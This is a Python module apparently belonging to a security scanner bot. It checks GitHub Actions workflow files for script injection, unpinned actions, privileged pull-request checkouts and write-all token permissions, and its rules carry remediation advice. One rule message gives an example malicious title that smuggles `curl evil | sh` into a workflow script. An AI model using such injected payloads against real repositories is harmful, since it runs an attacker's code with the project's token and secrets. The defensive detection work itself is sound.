"""The rules of the bot's GitHub Actions checks, over the YAML node tree of one file.

The node tree comes from ``analyzers.safe_yaml`` (safe loader, nothing constructed, nesting and
alias expansion bounded); nodes keep their line numbers, so each finding points at its source.
Run through ``analyzers.actions``, in a child process.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field

from yaml.nodes import MappingNode, Node, ScalarNode, SequenceNode

from analyzers.base import Finding, Severity
from analyzers.batch import MAX_FINDINGS_PER_FILE
from analyzers.safe_yaml import compose_bounded

TOOL = "actions"
MAX_BYTES = 1024 * 1024  # a workflow bigger than this is not something people write by hand
DOCS = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"


@dataclass(frozen=True)
class Rule:
    id: str
    severity: Severity
    cwe: str
    message: str
    help_url: str = DOCS
    title: str = ""  # one line naming the problem (SARIF's short description of the rule)


SCRIPT_INJECTION = Rule(
    "actions-script-injection",
    "error",
    "CWE-78",
    "`${{{{ {expr} }}}}` is pasted into the script before it runs, and whoever opens the issue, "
    'pull request, comment or branch controls that text: a title like `a"; curl evil | sh; "` '
    "runs their commands with this job's token and secrets. Pass it through `env:` (e.g. "
    '`env: VALUE: ${{{{ {expr} }}}}`) and use it quoted as "$VALUE" (in github-script: '
    "process.env.VALUE).",
    DOCS + "#understanding-the-risk-of-script-injections",
    title="Untrusted input pasted into a workflow script",
)
UNPINNED_ACTION = Rule(
    "actions-unpinned-action",
    "warning",
    "CWE-829",
    "`{uses}` is referenced by a tag or branch, which its owner (or whoever compromises that "
    "repository) can move to different code at any time, and this workflow would run it with its "
    "token and secrets. Pin it to a full 40-character commit SHA and keep the version in a "
    "comment: `uses: {name}@<sha> # {ref}`.",
    DOCS + "#using-third-party-actions",
    title="Action not pinned to a commit SHA",
)
PR_TARGET_CHECKOUT = Rule(
    "actions-pull-request-target-checkout",
    "error",
    "CWE-829",
    "This workflow runs on `{trigger}`, with a write token and the repository's secrets, and "
    "checks out the pull request's own code (`{value}`): any build, install or script from that "
    "checkout runs code the PR author wrote with those privileges. Use the `pull_request` "
    "trigger to build untrusted code, or check out the base branch only and treat the PR's "
    "content as data.",
    "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
    title="Privileged workflow checks out the pull request's code",
)
WRITE_ALL = Rule(
    "actions-write-all-permissions",
    "warning",
    "CWE-250",
    "`permissions: write-all` gives the GITHUB_TOKEN write access to everything (code, "
    "releases, packages, other workflows), so one compromised step can push to the repository. "
    "Grant only what the job needs, e.g. `permissions: {{contents: read}}`.",
    "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/"
    "controlling-permissions-for-github_token",
    title="GITHUB_TOKEN with write access to everything",
)
# The same rule inside actions/github-script: JavaScript rather than shell, so code injection.
GITHUB_SCRIPT_INJECTION = Rule(
    SCRIPT_INJECTION.id,
    "error",
    "CWE-94",
    SCRIPT_INJECTION.message,
    SCRIPT_INJECTION.help_url,
    SCRIPT_INJECTION.title,
)
RULES = (SCRIPT_INJECTION, UNPINNED_ACTION, PR_TARGET_CHECKOUT, WRITE_ALL)

_EXPR = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
_ANY = r"(?:\[\d+\]|\.\*|\[\*\])?"  # commits[0], commits.*, commits[*]
# Contexts an outside user writes: from GitHub Security Lab's list, plus workflow_run's copies.
_TAINTED = re.compile(
    r"github\.head_ref"
    r"|github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)"
    r"|github\.event\.(?:comment|review|review_comment|discussion_comment)\.body"
    rf"|github\.event\.pages{_ANY}\.page_name"
    rf"|github\.event\.(?:commits{_ANY}|head_commit)\.(?:message|author\.(?:email|name))"
    r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)"
    r"|github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))"
    rf"|pull_requests{_ANY}\.head\.ref)"
    r"|toJSON\(\s*github\.event\b[\w.]*\s*\)",  # the whole event, titles and bodies included
    re.IGNORECASE,
)
_PR_HEAD = re.compile(
    r"github\.event\.pull_request\.head\.(?:sha|ref|repo\.full_name)|github\.head_ref|refs/pull/"
    r"|github\.event\.workflow_run\.(?:head_sha|head_branch|head_repository\.full_name)",
    re.IGNORECASE,
)
_SHA = re.compile(r"[0-9a-f]{40}")
PRIVILEGED_TRIGGERS = ("pull_request_target", "workflow_run")
# GitHub's own actions may stay at a tag by default: if actions/* or github/* were compromised,
# so would be the runners they run on, and pinning them adds churn for little gain. Set
# pin_first_party=True for the stricter policy (OpenSSF Scorecard's).
FIRST_PARTY_OWNERS = ("actions", "github")


def child(node: Node | None, key: str) -> Node | None:
    """The value under ``key`` in a mapping node (the last one, if duplicated), else None."""
    if not isinstance(node, MappingNode):
        return None
    found = None
    for k, v in node.value:
        if isinstance(k, ScalarNode) and k.value == key:
            found = v
    return found


def items(node: Node | None) -> list[Node]:
    return list(node.value) if isinstance(node, SequenceNode) else []


def values(node: Node | None) -> list[Node]:
    return [v for _, v in node.value] if isinstance(node, MappingNode) else []


def text(node: Node | None) -> str | None:
    return node.value if isinstance(node, ScalarNode) else None


def triggers(doc: Node) -> set[str]:
    on = child(doc, "on")
    if isinstance(on, ScalarNode):
        return {on.value}
    if isinstance(on, SequenceNode):
        return {t for n in on.value if (t := text(n))}
    if isinstance(on, MappingNode):
        return {k.value for k, _ in on.value if isinstance(k, ScalarNode)}
    return set()


def steps_of(doc: Node) -> Iterator[Node]:
    """Every step of every job, or of a composite action's ``runs``."""
    yield from items(child(child(doc, "runs"), "steps"))
    for job in values(child(doc, "jobs")):
        yield from items(child(job, "steps"))


def once_each(nodes: Iterable[Node]) -> Iterator[Node]:
    """Each node once, however many aliases repeat it: a repeat is the same source text, and a
    9 KB file of aliases would otherwise stand for a million steps (and a million findings)."""
    seen: set[int] = set()
    for node in nodes:
        if id(node) not in seen:
            seen.add(id(node))
            yield node


@dataclass
class _Context:
    rel: str
    source: str
    findings: list[Finding]
    max_findings: int = MAX_FINDINGS_PER_FILE
    dropped: int = field(default=0)

    def add(
        self, rule: Rule, node: Node, message: str, *, line: int | None = None, column: int | None = None
    ) -> None:
        if len(self.findings) >= self.max_findings:
            self.dropped += 1
            return
        at = line if line is not None else node.start_mark.line + 1
        self.findings.append(
            Finding(
                tool=TOOL,
                rule_id=rule.id,
                severity=rule.severity,
                path=self.rel,
                line=at,
                end_line=at,
                message=message,
                column=column if column is not None else node.start_mark.column + 1,
                help_url=rule.help_url,
                cwe=rule.cwe,
            )
        )


def check_injection(ctx: _Context, node: Node | None, rule: Rule) -> None:
    """Flag each line of a script that expands an attacker-written context, at that exact line.

    The raw source of the scalar is searched (not its parsed value), so the line inside a
    ``run: |`` block is exact; only when the expression is folded across lines is the key's
    line used instead.
    """
    if not isinstance(node, ScalarNode):
        return
    raw = ctx.source[node.start_mark.index : node.end_mark.index]
    flagged: set[int] = set()
    matches = [(m, m.group(1)) for m in _EXPR.finditer(raw) if _TAINTED.search(m.group(1))]
    for match, expr in matches:
        before = raw[: match.start()]
        line = node.start_mark.line + 1 + before.count("\n")
        if line in flagged:
            continue
        flagged.add(line)
        column = (
            match.start() - (before.rfind("\n") + 1) + 1 + (0 if "\n" in before else node.start_mark.column)
        )
        ctx.add(rule, node, rule.message.format(expr=" ".join(expr.split())), line=line, column=column)
    if not matches:
        for expr in _EXPR.findall(node.value):  # folded in the source: fall back to the key's line
            if _TAINTED.search(expr):
                ctx.add(rule, node, rule.message.format(expr=" ".join(expr.split())))
                return


def action_name(uses: str) -> str:
    return uses.split("@", 1)[0].strip().lower()


def check_step_injection(ctx: _Context, step: Node) -> None:
    check_injection(ctx, child(step, "run"), SCRIPT_INJECTION)
    if action_name(text(child(step, "uses")) or "") == "actions/github-script":
        check_injection(ctx, child(child(step, "with"), "script"), GITHUB_SCRIPT_INJECTION)


def is_pinned(uses: str, *, pin_first_party: bool) -> bool:
    uses = uses.strip()
    if uses.startswith("./"):
        return True  # a local action comes from this very commit
    if uses.startswith("docker://"):
        return "@sha256:" in uses
    name, _, ref = uses.partition("@")
    if _SHA.fullmatch(ref):
        return True
    return not pin_first_party and bool(ref) and name.split("/", 1)[0].lower() in FIRST_PARTY_OWNERS


def check_unpinned(ctx: _Context, node: Node | None, pin_first_party: bool) -> None:
    uses = text(node)
    if node is None or not uses or "${{" in uses or is_pinned(uses, pin_first_party=pin_first_party):
        return
    name, _, ref = uses.partition("@")
    ctx.add(UNPINNED_ACTION, node, UNPINNED_ACTION.message.format(uses=uses, name=name, ref=ref or "vX"))


def check_pr_target_checkout(ctx: _Context, doc: Node, step: Node) -> None:
    trigger = next((t for t in PRIVILEGED_TRIGGERS if t in triggers(doc)), None)
    if trigger is None or action_name(text(child(step, "uses")) or "") != "actions/checkout":
        return
    with_ = child(step, "with")
    for key in ("ref", "repository"):
        node = child(with_, key)
        value = text(node)
        if node is not None and value and _PR_HEAD.search(value):
            ctx.add(PR_TARGET_CHECKOUT, node, PR_TARGET_CHECKOUT.message.format(trigger=trigger, value=value))
            return


def check_write_all(ctx: _Context, doc: Node) -> None:
    for owner in (doc, *values(child(doc, "jobs"))):
        node = child(owner, "permissions")
        if node is not None and text(node) == "write-all":
            ctx.add(WRITE_ALL, node, WRITE_ALL.message)


def check_document(rel: str, source: str, *, pin_first_party: bool = False) -> list[Finding]:
    """All findings of the rules above in one workflow or action file's text (at most 200).

    Raises YamlLimitError (YamlSyntaxError for invalid YAML) for a file beyond safe_yaml's bounds.
    """
    return check_context(rel, source, pin_first_party).findings


def check_context(rel: str, source: str, pin_first_party: bool) -> _Context:
    ctx = _Context(rel, source, [])
    doc = compose_bounded(source, max_bytes=MAX_BYTES)
    if not isinstance(doc, MappingNode):
        return ctx
    check_write_all(ctx, doc)
    for job in once_each(values(child(doc, "jobs"))):
        check_unpinned(ctx, child(job, "uses"), pin_first_party)  # a reusable workflow
    for step in once_each(steps_of(doc)):
        check_step_injection(ctx, step)
        check_unpinned(ctx, child(step, "uses"), pin_first_party)
        check_pr_target_checkout(ctx, doc, step)
    ctx.findings.sort(key=lambda f: (f.line, f.rule_id))
    return ctx
